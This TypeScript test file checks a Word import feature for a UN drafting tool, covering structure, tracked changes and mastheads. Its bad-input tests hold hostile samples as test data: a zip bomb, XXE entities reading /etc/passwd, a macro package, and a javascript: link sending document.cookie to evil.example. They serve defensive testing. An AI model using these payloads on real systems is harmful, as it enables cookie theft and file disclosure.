/**
 * Word import against files no one here wrote: LibreOffice converts a flat ODT and an HTML page the test writes
 * into .docx, and the import must read their structure and tracked changes. Files the `docx` library writes as UN
 * templates lay them out, with the masthead in the first page's header and the symbol in the running header. Then
 * hostile and huge inputs: each is refused with a clear error or imported completely within the limits.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { Document, Footer, Header, Packer, PageNumber, Paragraph, Table, TableCell, TableRow, TextRun, WidthType, type ISectionOptions } from 'docx';
import { Node as ProseMirrorNode } from 'prosemirror-model';
import * as Y from 'yjs';
import { prosemirrorToYXmlFragment } from 'y-prosemirror';
import { schema } from '../../shared/schema/index.ts';
import { TEXT_FRAGMENT } from '../../shared/model/ydocs.ts';
import { indexParagraphs, spanWording, textFragment } from '../../shared/model/negotiation/text.ts';
import { DocxImportError, importDocx, planTrackedProposals, type DocxImport } from '../../shared/import/index.ts';
import { docxPackage, p, run } from '../fixtures/docx/package.ts';
import { longDocx } from '../fixtures/docx/long.ts';
import { zeroBombDocx } from '../fixtures/docx/zips.ts';

const run$ = promisify(execFile);
const RURITANIA = 'Delegation of Ruritania';

/** A flat ODT with tracked changes by a named author, a numbered list with sub-items, a footnote, a table, marks and links. */
const FODT = `<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
 <office:styles>
  <style:style style:name="Heading_20_1" style:display-name="Heading 1" style:family="paragraph" style:default-outline-level="1"/>
 </office:styles>
 <office:automatic-styles>
  <style:style style:name="T1" style:family="text"><style:text-properties fo:font-weight="bold"/></style:style>
  <style:style style:name="T2" style:family="text"><style:text-properties fo:font-style="italic"/></style:style>
  <style:style style:name="T3" style:family="text"><style:text-properties style:text-underline-style="solid" style:text-underline-width="auto" style:text-underline-color="font-color"/></style:style>
  <text:list-style style:name="L1">
   <text:list-level-style-number text:level="1" style:num-suffix="." style:num-format="1"/>
   <text:list-level-style-number text:level="2" style:num-prefix="(" style:num-suffix=")" style:num-format="a"/>
  </text:list-style>
 </office:automatic-styles>
 <office:body><office:text>
  <text:tracked-changes text:track-changes="true">
   <text:changed-region xml:id="ct1" text:id="ct1"><text:insertion><office:change-info><dc:creator>${RURITANIA}</dc:creator><dc:date>2026-07-01T10:00:00</dc:date></office:change-info></text:insertion></text:changed-region>
   <text:changed-region xml:id="ct2" text:id="ct2"><text:deletion><office:change-info><dc:creator>${RURITANIA}</dc:creator><dc:date>2026-07-01T10:05:00</dc:date></office:change-info><text:p>urgently </text:p></text:deletion></text:changed-region>
   <text:changed-region xml:id="ct3" text:id="ct3"><text:insertion><office:change-info><dc:creator>${RURITANIA}</dc:creator><dc:date>2026-07-01T11:00:00</dc:date></office:change-info></text:insertion></text:changed-region>
   <text:changed-region xml:id="ct4" text:id="ct4"><text:deletion><office:change-info><dc:creator>${RURITANIA}</dc:creator><dc:date>2026-07-01T12:00:00</dc:date></office:change-info><text:list text:style-name="L1"><text:list-item><text:p>The group will meet again in 2027.</text:p></text:list-item></text:list><text:p/></text:deletion></text:changed-region>
  </text:tracked-changes>
  <text:h text:style-name="Heading_20_1" text:outline-level="1">Introduction</text:h>
  <text:list text:style-name="L1" xml:id="list1">
   <text:list-item><text:p>The Group <text:span text:style-name="T1">welcomes</text:span> the <text:change text:change-id="ct2"/>progress made<text:note text:id="ftn1" text:note-class="footnote"><text:note-citation>1</text:note-citation><text:note-body><text:p>See A/78/265, para. 23.</text:p></text:note-body></text:note>.</text:p></text:list-item>
   <text:list-item><text:p>States <text:span text:style-name="T2">should</text:span> <text:change-start text:change-id="ct1"/>continue to <text:change-end text:change-id="ct1"/>cooperate <text:span text:style-name="T3">closely</text:span>, see <text:a xlink:type="simple" xlink:href="https://www.un.org/">the UN</text:a> and <text:a xlink:type="simple" xlink:href="javascript:alert(1)">this</text:a>:</text:p>
     <text:list><text:list-item><text:p>by sharing data;</text:p></text:list-item><text:list-item><text:p>by building capacity.</text:p></text:list-item></text:list>
   </text:list-item>
   <text:list-item><text:p>The Chair will report.<text:change-start text:change-id="ct3"/></text:p></text:list-item>
   <text:list-item><text:p>A new paragraph proposed by Ruritania.<text:change-end text:change-id="ct3"/></text:p></text:list-item>
   <text:list-item><text:p><text:change text:change-id="ct4"/>The session is closed.</text:p></text:list-item>
  </text:list>
  <table:table table:name="Programme"><table:table-column table:number-columns-repeated="2"/>
   <table:table-row><table:table-cell><text:p>Date</text:p></table:table-cell><table:table-cell><text:p>Item</text:p></table:table-cell></table:table-row>
   <table:table-row><table:table-cell><text:p>8 July</text:p></table:table-cell><table:table-cell><text:p>Opening</text:p></table:table-cell></table:table-row>
   <table:table-row><table:table-cell table:number-columns-spanned="2"><text:p>Closing</text:p></table:table-cell><table:covered-table-cell/></table:table-row>
  </table:table>
 </office:text></office:body>
</office:document>
`;

/** An HTML page as a delegate might save from a browser or a mail client. */
const HTML = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Chair's discussion paper</title></head>
<body>
<h1>Introduction</h1>
<p>The Chair circulates this <b>discussion paper</b>, <i>ad referendum</i>, with <u>underlined</u> words.</p>
<ol>
<li>States should share data.</li>
<li>States should build capacity:<ol type="a"><li>through training;</li><li>through exchanges.</li></ol></li>
<li>The group will report, see <a href="https://www.un.org/">the UN</a>, <a href="javascript:alert(1)">this</a> and <a href="data:text/html,x">that</a>.</li>
</ol>
<h2>Programme of work</h2>
<table border="1"><tr><td>Date</td><td>Item</td></tr><tr><td>8 July</td><td>Opening</td></tr><tr><td colspan="2">Closing</td></tr></table>
<ul><li>First bullet</li><li>Second bullet</li></ul>
<p>&lt;script&gt;alert("x")&lt;/script&gt;</p>
<script>alert("a real script")</script>
</body></html>
`;

let dir = '';
let fromOdt: Uint8Array;
let fromHtml: Uint8Array;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'penholder-docx-import-'));
  await writeFile(join(dir, 'negotiation.fodt'), FODT);
  await writeFile(join(dir, 'discussion.html'), HTML);
  // One LibreOffice run for both files, with a private profile so parallel runs never share one.
  await run$(
    'soffice',
    ['--headless', `-env:UserInstallation=file://${join(dir, 'profile')}`, '--convert-to', 'docx:MS Word 2007 XML', '--outdir', join(dir, 'out'), join(dir, 'negotiation.fodt'), join(dir, 'discussion.html')],
    { timeout: 120_000 },
  );
  fromOdt = new Uint8Array(await readFile(join(dir, 'out', 'negotiation.docx')));
  fromHtml = new Uint8Array(await readFile(join(dir, 'out', 'discussion.docx')));
}, 150_000);

afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

function loaded(imported: DocxImport): ProseMirrorNode {
  const node = ProseMirrorNode.fromJSON(schema, imported.doc);
  node.check();
  return node;
}

/** A textblock's own text, footnotes left out. */
function ownText(block: ProseMirrorNode): string {
  let text = '';
  block.forEach((child) => {
    if (child.isText) text += child.text;
  });
  return text;
}

/** Body blocks as "type: text" lines, list items prefixed by their list kind. */
function outline(node: ProseMirrorNode): string[] {
  const out: string[] = [];
  const visit = (block: ProseMirrorNode, prefix: string): void => {
    if (block.isTextblock) out.push(`${prefix}${block.type.name}: ${ownText(block)}`);
    else if (block.type.name === 'table') out.push(`${prefix}table`);
    else {
      const inner = block.type.name === 'lettered_list' ? '(l) ' : block.type.name === 'bullet_list' ? '(b) ' : '';
      block.forEach((child) => visit(child, prefix + inner));
    }
  };
  node.forEach((child, _offset, index) => {
    if (index > 0) visit(child, '');
  });
  return out;
}

function marksOf(node: ProseMirrorNode): string[] {
  const out: string[] = [];
  node.descendants((child) => {
    if (child.isText && child.marks.length > 0) out.push(`${child.text}=${child.marks.map((mark) => (mark.type.name === 'link' ? `link(${mark.attrs['href']})` : mark.type.name)).join('+')}`);
    return true;
  });
  return out;
}

describe('a .docx LibreOffice made from a flat ODT', () => {
  it('imports headings, auto-numbered paragraphs, lettered sub-paragraphs, the footnote, the table and the marks', () => {
    const imported = importDocx(fromOdt);
    const node = loaded(imported);
    // The original text: the insertions are not applied, the deletion and the deleted paragraph are still there.
    expect(outline(node)).toEqual([
      'heading: Introduction',
      'numbered_paragraph: The Group welcomes the urgently progress made.',
      'numbered_paragraph: States should cooperate closely, see the UN and this:',
      '(l) paragraph: by sharing data;',
      '(l) paragraph: by building capacity.',
      'numbered_paragraph: The Chair will report.',
      'numbered_paragraph: The group will meet again in 2027.',
      'numbered_paragraph: The session is closed.',
      'table',
    ]);
    let footnote = '';
    node.descendants((child) => {
      if (child.type.name === 'footnote') footnote = child.textContent;
      return true;
    });
    expect(footnote).toBe('See A/78/265, para. 23.');
    expect(marksOf(node)).toEqual(['welcomes=bold', 'should=italic', 'closely=underline', 'the UN=link(https://www.un.org/)']);
    const table = node.lastChild as ProseMirrorNode;
    expect(table.childCount).toBe(3);
    expect(table.child(2).child(0).attrs['colspan']).toBe(2);
    expect(table.child(2).child(0).textContent).toBe('Closing');
    expect(imported.report.notKept).toContainEqual({ what: 'unsafe links such as javascript:, data: or file: (kept as plain text)', count: 1, example: 'javascript:alert(1)' });
    expect(imported.report.counts).toMatchObject({ headings: 1, numberedParagraphs: 5, subparagraphs: 2, footnotes: 1, tables: 1, links: 1 });
  });

  it('reads the tracked insertions and deletions with their author and words', () => {
    const { tracked } = importDocx(fromOdt);
    expect(tracked.map((entry) => [entry.number, entry.wholeParagraph, entry.original, entry.proposed])).toEqual([
      ['1', null, 'The Group welcomes the urgently progress made[^See A/78/265, para. 23.].', 'The Group welcomes the progress made[^See A/78/265, para. 23.].'],
      ['2', null, 'States should cooperate closely, see the UN and this:', 'States should continue to cooperate closely, see the UN and this:'],
      // Unchanged paragraphs before the inserted one, so the plan can place it after one of them.
      ['2 (a)', null, 'by sharing data;', 'by sharing data;'],
      ['2 (b)', null, 'by building capacity.', 'by building capacity.'],
      ['3', null, 'The Chair will report.', 'The Chair will report.'],
      [null, 'inserted', '', 'A new paragraph proposed by Ruritania.'],
      ['4', 'deleted', 'The group will meet again in 2027.', ''],
    ]);
    const changes = tracked.flatMap((entry) => entry.changes);
    expect(changes.map((change) => [change.kind, change.author, change.text])).toEqual([
      ['delete', RURITANIA, 'urgently '],
      ['insert', RURITANIA, 'continue to '],
      ['insert', RURITANIA, 'A new paragraph proposed by Ruritania.'],
      ['delete', RURITANIA, 'The group will meet again in 2027.'],
    ]);
    expect(changes[1]?.date).toMatch(/^2026-07-01T10:00:00/);
  });

  it('plans the changes as proposals whose spans read their quotes in D/text', () => {
    const imported = importDocx(fromOdt);
    const node = loaded(imported);
    const { plans, unmatched } = planTrackedProposals(imported.tracked, node);
    expect(unmatched).toEqual([]);
    expect(plans.map((plan) => [plan.kind, plan.quote, plan.text, plan.matchedBy, plan.paragraphNumber])).toEqual([
      ['replace', 'urgently ', '', 'number', '1'],
      ['replace', '', 'continue to ', 'number', '2'],
      ['new-paragraph', '', 'A new paragraph proposed by Ruritania.', 'number', '3'],
      ['delete-paragraph', 'The group will meet again in 2027.', '', 'number', '4'],
    ]);
    const ydoc = new Y.Doc();
    prosemirrorToYXmlFragment(node, ydoc.getXmlFragment(TEXT_FRAGMENT));
    const paragraphs = indexParagraphs(textFragment(ydoc)).elements;
    for (const plan of plans.filter((entry) => entry.kind !== 'new-paragraph')) {
      expect(spanWording(paragraphs.get(plan.pid) as Y.XmlElement, plan.from, plan.to)).toBe(plan.quote);
    }
  });
});

describe('a .docx LibreOffice made from an HTML page', () => {
  it('imports headings, lists, the table, marks and the title; unsafe links and scripts stay plain text', () => {
    const imported = importDocx(fromHtml);
    const node = loaded(imported);
    expect(outline(node)).toEqual([
      'heading: Introduction',
      'paragraph: The Chair circulates this discussion paper, ad referendum, with underlined words.',
      'numbered_paragraph: States should share data.',
      'numbered_paragraph: States should build capacity:',
      '(l) paragraph: through training;',
      '(l) paragraph: through exchanges.',
      'numbered_paragraph: The group will report, see the UN, this and that.',
      'heading: Programme of work',
      'table',
      '(b) paragraph: First bullet',
      '(b) paragraph: Second bullet',
      'paragraph: <script>alert("x")</script>',
    ]);
    expect(marksOf(node)).toEqual(['discussion paper=bold', 'ad referendum=italic', 'underlined=underline', 'the UN=link(https://www.un.org/)']);
    expect(node.textContent).not.toContain('a real script');
    expect(imported.title).toBe('Chair\'s discussion paper');
    const unsafe = imported.report.notKept.find((entry) => entry.what.startsWith('unsafe links'));
    expect(unsafe?.count).toBe(2);
    expect(imported.tracked).toEqual([]);
  });
});

describe('bad input', () => {
  function refusal(bytes: Uint8Array): DocxImportError {
    try {
      importDocx(bytes);
    } catch (error) {
      if (error instanceof DocxImportError) return error;
      throw error;
    }
    throw new Error('expected a refusal');
  }

  /** The LibreOffice file with some parts replaced or added. */
  function altered(parts: Record<string, string | Uint8Array>): Uint8Array {
    const files: Record<string, Uint8Array> = unzipSync(fromOdt);
    for (const [name, content] of Object.entries(parts)) files[name] = typeof content === 'string' ? strToU8(content) : content;
    return zipSync(files);
  }

  it('refuses a corrupt and a truncated zip as damaged', () => {
    const garbage = new Uint8Array(4096).map((_, index) => (index * 7919) % 251);
    garbage.set([0x50, 0x4b, 0x03, 0x04]);
    expect(refusal(garbage).code).toBe('corrupt');
    const truncated = refusal(fromOdt.subarray(0, Math.floor(fromOdt.length / 2)));
    expect(truncated.code).toBe('corrupt');
    expect(truncated.message).toMatch(/damaged .* cut off while copying/);
  });

  it('refuses a zip bomb (a gigabyte of zeros) before inflating it, and one that lies about its size while inflating', () => {
    const bomb = zeroBombDocx();
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
    const before = process.memoryUsage().rss;
    expect(refusal(bomb).code).toBe('zip-bomb');
    const lying = refusal(zeroBombDocx({ declaredSize: 20_000 }));
    expect(lying.code).toBe('zip-bomb');
    expect(lying.message).toMatch(/declares 19\.5 KB but expands to more/);
    // Neither was ever inflated in full.
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
  });

  it('refuses XML declaring an external entity, without resolving it', () => {
    const document = strFromU8(unzipSync(fromOdt)['word/document.xml'] as Uint8Array).replace(
      '<w:document',
      '<!DOCTYPE w:document [<!ENTITY passwd SYSTEM "file:///etc/passwd">]><w:document',
    ).replace('Introduction', '&passwd;');
    const error = refusal(altered({ 'word/document.xml': document }));
    expect(error.code).toBe('external-entity');
    expect(error.message).toContain('word/document.xml');
    expect(error.message).not.toContain('root:');
  });

  it('refuses a macro-enabled (.docm-like) package and says to save it as .docx', () => {
    const contentTypes = strFromU8(unzipSync(fromOdt)['[Content_Types].xml'] as Uint8Array).replace(
      'wordprocessingml.document.main+xml',
      'wordprocessingml.document.main+xml"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject',
    );
    const error = refusal(altered({ '[Content_Types].xml': contentTypes, 'word/vbaProject.bin': new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) }));
    expect(error.code).toBe('macro-enabled');
    expect(error.message).toMatch(/Save As.*Word Document \(\*\.docx\)/);
  });

  it('keeps script text and javascript:/data: links as plain text, and reports the links', () => {
    const link = (id: string, text: string): string => `<w:hyperlink r:id="${id}">${run(text)}</w:hyperlink>`;
    const imported = importDocx(
      docxPackage({
        rels: [
          { id: 'js', type: 'hyperlink', target: 'javascript:fetch("https://evil.example/"+document.cookie)', external: true },
          { id: 'data', type: 'hyperlink', target: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', external: true },
          { id: 'vb', type: 'hyperlink', target: 'vbscript:msgbox(1)', external: true },
        ],
        body: p('<script>alert(document.cookie)</script>') + `<w:p>${link('js', 'click')}${run(' ')}${link('data', 'open')}${run(' ')}${link('vb', 'run')}</w:p>`,
      }),
    );
    const node = loaded(imported);
    expect(outline(node)).toEqual(['paragraph: <script>alert(document.cookie)</script>', 'paragraph: click open run']);
    expect(marksOf(node)).toEqual([]);
    expect(imported.report.notKept).toEqual([
      { what: 'unsafe links such as javascript:, data: or file: (kept as plain text)', count: 3, example: 'javascript:fetch("https://evil.example/"+document.cookie)' },
    ]);
  });

  it('imports a 200-page file completely within the limits', async () => {
    const { bytes, facts } = await longDocx(200);
    const started = performance.now();
    const imported = importDocx(bytes);
    const elapsed = performance.now() - started;
    const node = loaded(imported);
    expect(imported.report.counts).toMatchObject({
      numberedParagraphs: facts.numberedParagraphs,
      subparagraphs: facts.subparagraphs,
      headings: facts.headings,
      footnotes: facts.footnotes,
      tables: facts.tables,
      tableCells: facts.tableCells,
    });
    expect(imported.report.notKept).toEqual([]);
    expect(node.childCount).toBeGreaterThan(facts.numberedParagraphs);
    console.log(
      `[docx-import] 200-page file: ${(bytes.length / 1024).toFixed(0)} KB, ${facts.numberedParagraphs} numbered paragraphs; ` +
        `import ${elapsed.toFixed(0)} ms, result ${(JSON.stringify(imported).length / 1024 / 1024).toFixed(1)} MB of JSON`,
    );
  });
});

describe('a UN masthead in the page headers (files written by the docx library)', () => {
  const SYMBOL = 'A/AC.292/2024/L.1';
  const text = (value: string, bold = false): Paragraph => new Paragraph({ children: [new TextRun({ text: value, bold })] });
  const cell = (...paragraphs: Paragraph[]): TableCell => new TableCell({ width: { size: 50, type: WidthType.PERCENTAGE }, children: paragraphs });

  /** The first-page header of the UN template: a table, "United Nations" | symbol over organ | distribution, date, language. */
  function templateHeader(symbol: string, distribution: string, date: string): Header {
    return new Header({
      children: [
        new Table({
          width: { size: 100, type: WidthType.PERCENTAGE },
          rows: [
            new TableRow({ children: [cell(text('United Nations')), cell(text(symbol, true))] }),
            new TableRow({ children: [cell(text('General Assembly', true)), cell(text(`Distr.: ${distribution}`), text(date), text(''), text('Original: English'))] }),
          ],
        }),
      ],
    });
  }

  async function written(section: ISectionOptions): Promise<Uint8Array> {
    return new Uint8Array(await Packer.toBuffer(new Document({ sections: [section] })));
  }

  /** The body of a UN draft after its masthead: organ and session lines, agenda item, the bold title, then the text. */
  const draftBody = [
    text('Open-ended working group on security of and in the use of information and communications technologies 2021–2025'),
    text('Eighth substantive session'),
    text('New York, 8–12 July 2024'),
    text('Agenda item 5'),
    text('Draft annual progress report', true),
    text('1.\tThe group met in New York.'),
    text('2.\tThe group adopted its report.'),
  ];

  /** The header node's attributes and title, and the body's outline. */
  function read(imported: DocxImport): { attrs: Record<string, unknown>; title: string; body: string[] } {
    const node = loaded(imported);
    const header = node.firstChild as ProseMirrorNode;
    return { attrs: header.attrs, title: header.textContent, body: outline(node) };
  }

  /** The .docx with the header part that holds `marker` rewritten by `change` (the part's name is returned too). */
  function withHeaderPart(bytes: Uint8Array, marker: string, change: (xml: string) => string): { bytes: Uint8Array; part: string } {
    const files: Record<string, Uint8Array> = unzipSync(bytes);
    const part = Object.keys(files).find((name) => /^word\/header\d*\.xml$/.test(name) && strFromU8(files[name] as Uint8Array).includes(marker));
    if (part === undefined) throw new Error(`no header part holds ${marker}`);
    files[part] = strToU8(change(strFromU8(files[part] as Uint8Array)));
    return { bytes: zipSync(files), part };
  }

  it('fills the header node from the first-page header and the body lines after it; the running symbol is kept', async () => {
    const bytes = await written({
      properties: { titlePage: true },
      headers: { first: templateHeader(SYMBOL, 'General', '12 July 2024'), default: new Header({ children: [text(SYMBOL, true)] }) },
      children: draftBody,
    });
    // The masthead really is in a header part, the body starts with the organ line.
    const files = unzipSync(bytes);
    expect(strFromU8(files['word/document.xml'] as Uint8Array)).not.toContain('Distr.');
    expect(strFromU8(files['word/document.xml'] as Uint8Array)).toContain('<w:titlePg/>');
    const imported = importDocx(bytes);
    const { attrs, title, body } = read(imported);
    expect(attrs).toMatchObject({
      symbol: SYMBOL,
      distribution: 'General',
      date: '12 July 2024',
      originalLanguage: 'English',
      session: 'Open-ended working group on security of and in the use of information and communications technologies 2021–2025\nEighth substantive session\nNew York, 8–12 July 2024',
      agenda: 'Agenda item 5',
    });
    expect(title).toBe('Draft annual progress report');
    expect(imported.title).toBe('Draft annual progress report');
    expect(body).toEqual(['numbered_paragraph: The group met in New York.', 'numbered_paragraph: The group adopted its report.']);
    expect(imported.report.notKept).toEqual([]);
  });

  it('lets the body\'s own masthead win over the header\'s, which fills only what the body leaves blank', async () => {
    const bytes = await written({
      properties: { titlePage: true },
      headers: { first: templateHeader(SYMBOL, 'General', '12 July 2024'), default: new Header({ children: [text(SYMBOL)] }) },
      children: [text(`${SYMBOL}/Rev.1`), text('Distr.: Limited'), text('15 July 2024'), text('Draft annual progress report', true), text('1.\tThe group met.')],
    });
    const { attrs, title, body } = read(importDocx(bytes));
    expect(attrs).toMatchObject({ symbol: `${SYMBOL}/Rev.1`, distribution: 'Limited', date: '15 July 2024', originalLanguage: 'English' });
    expect(title).toBe('Draft annual progress report');
    expect(body).toEqual(['numbered_paragraph: The group met.']);
  });

  it('reads the default header as the first page\'s without titlePg, and takes the symbol from a running header alone', async () => {
    const withoutTitlePage = read(importDocx(await written({ headers: { default: templateHeader(SYMBOL, 'General', '12 July 2024') }, children: draftBody })));
    expect(withoutTitlePage.attrs).toMatchObject({ symbol: SYMBOL, distribution: 'General', date: '12 July 2024', originalLanguage: 'English' });
    expect(withoutTitlePage.title).toBe('Draft annual progress report');

    const runningOnly = importDocx(await written({ headers: { default: new Header({ children: [text(SYMBOL)] }) }, children: [text('The group met.')] }));
    expect(read(runningOnly).attrs).toMatchObject({ symbol: SYMBOL, distribution: 'General', date: '' });
    expect(read(runningOnly).body).toEqual(['paragraph: The group met.']);
    expect(runningOnly.report.notKept).toEqual([]);
  });

  it('a footer holding only page numbers loses nothing (the house format numbers pages); other header or footer text is reported with a count', async () => {
    const onlyPageNumbers = importDocx(
      await written({ footers: { default: new Footer({ children: [new Paragraph({ children: [new TextRun({ children: [PageNumber.CURRENT] })] })] }) }, children: [text('The group met.')] }),
    );
    expect(onlyPageNumbers.report.notKept).toEqual([]);
    expect(read(onlyPageNumbers).body).toEqual(['paragraph: The group met.']);

    const more = importDocx(
      await written({
        properties: { titlePage: true },
        headers: { first: templateHeader(SYMBOL, 'General', '12 July 2024'), default: new Header({ children: [text(`${SYMBOL}   Page 2`)] }) },
        footers: { first: new Footer({ children: [text('24-12345 (E)')] }) },
        children: draftBody,
      }),
    );
    expect(read(more).attrs['symbol']).toBe(SYMBOL);
    expect(more.report.notKept).toEqual([{ what: 'page headers and footers', count: 2, example: 'Page 2' }]);
  });

  it('refuses a header part that declares a DOCTYPE, and one that is not well-formed, naming the part', async () => {
    const bytes = await written({ properties: { titlePage: true }, headers: { first: templateHeader(SYMBOL, 'General', '12 July 2024') }, children: draftBody });
    const hostile = withHeaderPart(bytes, 'Distr.', (xml) =>
      xml.replace('<w:hdr', '<!DOCTYPE w:hdr [<!ENTITY secret SYSTEM "file:///etc/passwd">]><w:hdr').replace('United Nations', '&secret;'),
    );
    let error: unknown = null;
    try {
      importDocx(hostile.bytes);
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(DocxImportError);
    expect((error as DocxImportError).code).toBe('external-entity');
    expect((error as DocxImportError).message).toContain(hostile.part);

    const broken = withHeaderPart(bytes, 'Distr.', (xml) => xml.replace('</w:hdr>', ''));
    error = null;
    try {
      importDocx(broken.bytes);
    } catch (caught) {
      error = caught;
    }
    expect((error as DocxImportError).code).toBe('malformed-xml');
    expect((error as DocxImportError).message).toContain(`"${broken.part}"`);
  });
});
